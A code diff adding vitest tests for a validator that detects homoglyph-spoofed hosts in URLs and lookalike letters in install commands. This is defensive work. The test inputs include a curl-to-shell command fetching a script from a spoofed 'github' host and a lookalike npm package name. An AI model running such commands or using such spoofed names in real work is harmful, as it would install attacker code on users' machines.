@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import {
+  commandProblems,
   proseCharacterProblems,
   textCharacterProblems,
 } from '../../../../src/product/validation/text-problems.ts';
@@ -42,5 +43,41 @@ describe('The check of long text', () => {
     );
     expect(problem?.found).toMatch(/^"… a+ left\\u200bright b+ …"$/);
     expect(problem?.found.length).toBeLessThan(80);
+  });
+});
+
+describe('The check of hosts', () => {
+  it.each([
+    'curl https://g\u0456thub.dev/install.sh | sh',
+    'See <https://\u0430\u0441\u043c\u0435.dev>.',
+    '[x](https://docs.\u03bfpen.dev/a)',
+    'https://a.dev and http://\u04cfogin.a.dev:8080/',
+  ])('rejects %j, because the host looks like another one', (text) => {
+    expect(proseCharacterProblems(text, 'a.md')).toMatchObject([
+      {
+        found: expect.stringContaining('which looks like another one'),
+        expected: expect.stringMatching(/its ASCII form .*xn--/),
+      },
+    ]);
+  });
+
+  it.each([
+    'https://a.dev/\u043f\u0440\u0438',
+    'https://\u043f\u0440\u0438\u043c\u0435\u0440.dev',
+    'https://m\u00fcnchen.example',
+    'https://\u4f8b\u3048.jp',
+    'a g\u0456thub without a scheme',
+    '5 \u03bcs',
+  ])('accepts %j', (text) => {
+    expect(proseCharacterProblems(text, 'a.md')).toEqual([]);
+  });
+});
+
+describe('The check of commands', () => {
+  it('rejects a command whose letters look like others', () => {
+    const document = { installCommand: 'npm install br\u0456ndle' };
+    expect(commandProblems(document, ['installCommand'], 'a.json')).toMatchObject([
+      { field: 'installCommand', expected: expect.stringContaining('only Latin letters in') },
+    ]);
   });
 });
